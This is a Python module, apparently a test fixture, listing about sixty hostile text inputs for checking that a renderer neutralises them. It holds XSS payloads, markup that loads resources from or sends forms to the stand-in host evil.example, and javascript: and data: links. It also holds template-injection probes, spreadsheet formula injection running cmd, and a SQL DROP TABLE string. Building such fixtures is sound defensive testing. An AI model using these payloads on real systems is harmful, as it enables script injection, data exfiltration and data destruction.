"""Sixty texts that want to be more than texts. Each sets `window.pwned`, opens a dialog, leaves for evil.example, or breaks what shows it."""

from __future__ import annotations

EVIL = "https://evil.example"
RUN = "window.pwned=1"
SCRIPTS = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<body onload={RUN}>", "<script>alert(1)</script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}></video>", f"<input autofocus onfocus={RUN}>",
    f"<a href=\"javascript:{RUN}\">x</a>", f"</script><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"\"><script>{RUN}</script>",
    f"'-({RUN})-'", f"`${{{RUN}}}`", f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>", f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
)
CALLS_OUT = (
    f"![x]({EVIL}/a.png)", f"![x][1]\n\n[1]: {EVIL}/b.png", f"<img src='{EVIL}/c.png'>", f"<link rel=stylesheet href='{EVIL}/d.css'>", f"<style>@import '{EVIL}/e.css';</style>",
    f"<meta http-equiv='refresh' content='0;url={EVIL}'>", f"<base href='{EVIL}/'>", f"<iframe src='{EVIL}'></iframe>", f"<form action='{EVIL}'><button autofocus>x</button></form>",
    f"<div style=\"background:url('{EVIL}/f.png')\">x</div>", f"<audio src='{EVIL}/g.mp3' autoplay>", f"<embed src='{EVIL}/h.swf'>", f"{EVIL}/i.png", "//evil.example/j.png",
    f"[click]({EVIL} \"x\")", f"<script src='{EVIL}/k.js'></script>", f"@import url({EVIL}/l.css)", f"![]({EVIL}/?c=1)", f"<picture><source srcset='{EVIL}/m.png'><img></picture>",
)
LINKS = (f"[x](javascript:{RUN})", f"[x](data:text/html,<script>{RUN}</script>)", f"javascript:{RUN}", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==", "vbscript:x", f"ms-word:ofe|u|{EVIL}/n.doc")
WORDS = (
    "{{7*7}}", "${7*7}", "{% raw %}{{ config }}", "#{7*7}", ":material/delete: :red[red] :smile:", "$$\\href{javascript:window.pwned=1}{x}$$", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "x\0y", "\u202eterces\u202c", "\x1b[31mred\x1b[0m", "W" * 20_000, "'; DROP TABLE customer; --",
)
PAYLOADS = (*SCRIPTS, *CALLS_OUT, *LINKS, *WORDS)
